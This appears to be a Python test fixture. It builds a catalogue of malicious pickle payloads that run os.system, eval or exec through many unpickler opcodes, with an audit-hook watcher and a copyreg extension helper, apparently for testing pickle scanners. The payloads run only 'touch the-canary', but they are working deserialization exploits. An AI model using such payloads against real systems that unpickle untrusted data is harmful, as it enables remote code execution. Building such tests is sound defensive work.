"""Pickles made to do harm: each payload, if it ran, would make a file. And a watch that would tell.

That the payloads are real is shown with Python's unpickler, which runs them.
"""

import copyreg
import os
import pickle
import struct
import sys
from contextlib import contextmanager

import numpy as np

# Building blocks: instructions of pickle, each with its argument


def text(value):
    return b"X" + struct.pack("<I", len(value)) + value.encode()


def word(value):
    return b"U" + bytes([len(value)]) + value


def number(value):
    return b"J" + struct.pack("<i", value)


def named(module, name):
    return f"c{module}\n{name}\n".encode()


def stack_named(module, name):
    return text(module) + text(name) + b"\x93"


CANARY = "the-canary"
COMMAND = f"touch {CANARY}"
SYSTEM = named("os", "system")
RUN = text(COMMAND) + b"\x85R"  # on top of a function: call it
PAYLOAD = SYSTEM + RUN
EVAL = named("builtins", "eval") + text(f"open({CANARY!r}, 'w').close()") + b"\x85R"


def bare(program, protocol=4):
    return bytes([0x80, protocol]) + program + b"."


class Reduced:
    """What Python's pickler writes down as the call of a function."""

    def __init__(self, function, *arguments, state=None):
        self.reduced = (function, arguments) if state is None else (function, arguments, state)

    def __reduce__(self):
        return self.reduced


class Calls(dict):
    """A dict of which the attributes are set by BUILD."""


# Payloads that run in Python's unpickler, by how they come to run

RUNNING = {
    "REDUCE of os.system": bare(PAYLOAD),
    "REDUCE of eval": bare(EVAL),
    "REDUCE of exec": bare(named("builtins", "exec") + text(f"open({CANARY!r}, 'w').close()") + b"\x85R"),
    "STACK_GLOBAL": bare(stack_named("os", "system") + RUN),
    "STACK_GLOBAL with a dotted name": bare(
        stack_named("pickle", "sys.modules.get") + text("os") + b"\x85R0" + PAYLOAD
    ),
    "STACK_GLOBAL through another module": bare(stack_named("shutil", "os.system") + RUN),
    "GLOBAL of posix": bare(named("posix", "system") + RUN),
    "OBJ": bare(b"(" + SYSTEM + text(COMMAND) + b"o"),
    "INST": bare(b"(" + text(COMMAND) + b"ios\nsystem\n", 2),
    "INST, protocol 0": f"(S'{COMMAND}'\nios\nsystem\n.".encode(),
    "protocol 0": f"cos\nsystem\n(S'{COMMAND}'\ntR.".encode(),
    "NEWOBJ": bare(
        named("builtins", "tuple") + named("builtins", "map") + SYSTEM + text(COMMAND) + b"\x85\x86\x81\x85\x81"
    ),
    "NEWOBJ_EX": bare(
        named("builtins", "tuple") + named("builtins", "map") + SYSTEM + text(COMMAND) + b"\x85\x86}\x92\x85}\x92"
    ),
    "extension 1": bare(b"\x82\xf1" + RUN),
    "extension 2": bare(b"\x83\xf1\0" + RUN),
    "extension 4": bare(b"\x84\xf1\0\0\0" + RUN),
    "a function out of the memo": bare(SYSTEM + b"\x940h\0" + RUN),
    "a payload out of a list": bare(b"]" + PAYLOAD + b"a"),
    "a payload as a key": bare(b"}" + PAYLOAD + b"Ns"),
    "an argument of a payload": bare(named("builtins", "len") + word(b"") + b"\x850" + PAYLOAD),
    "nested REDUCE": bare(named("builtins", "str") + PAYLOAD + b"\x85R"),
    "getattr of a module": bare(
        named("builtins", "getattr")
        + named("builtins", "__import__")
        + word(b"os")
        + b"\x85R"
        + word(b"system")
        + b"\x86R"
        + RUN
    ),
    "BUILD that calls __setstate__": bare(
        named("functools", "partial") + named("builtins", "len") + b"\x85R(" + SYSTEM + text(COMMAND) + b"\x85}Ntb)R"
    ),
    "map, then a list of it": bare(
        named("builtins", "list") + named("builtins", "map") + SYSTEM + text(COMMAND) + b"\x85\x86R\x85R"
    ),
    "a frame that lies": b"\x80\4\x95" + struct.pack("<Q", len(PAYLOAD) + 1) + PAYLOAD + b".",
    **{f"written by Python, protocol {n}": pickle.dumps(Reduced(os.system, COMMAND), n) for n in range(6)},
    "with a state": pickle.dumps(Reduced(Calls, state={"x": Reduced(os.system, COMMAND)}), 4),
    "in an array of objects": pickle.dumps(np.array([Reduced(os.system, COMMAND)], object), 5),
    "in a field of a dtype": pickle.dumps(np.array([(Reduced(os.system, COMMAND),)], [("x", object)]), 4),
}


WATCHED = ("import", "exec", "compile", "os.", "subprocess.", "pickle.", "shutil.", "socket.", "ctypes.", "marshal.")


class Watch:
    """What Python was asked to do, of what harm is made of."""

    def __init__(self):
        self.events, self.on = [], False
        sys.addaudithook(self._hook)  # it cannot be taken away again

    def _hook(self, event, arguments):
        if self.on and (event.startswith(WATCHED) or (event == "open" and set(str(arguments[1])) & set("wxa+"))):
            self.events.append((event, str(arguments)[:100]))

    @contextmanager
    def watching(self):
        """Write down the events from now on, until the block ends."""
        self.events.clear()
        self.on = True
        try:
            yield self.events
        finally:
            self.on = False


WATCH = Watch()


@contextmanager
def registered():
    """Let the extension 241 be os.system, as a careless library could."""
    copyreg.add_extension("os", "system", 241)
    yield
    copyreg.remove_extension("os", "system", 241)
    copyreg.clear_extension_cache()
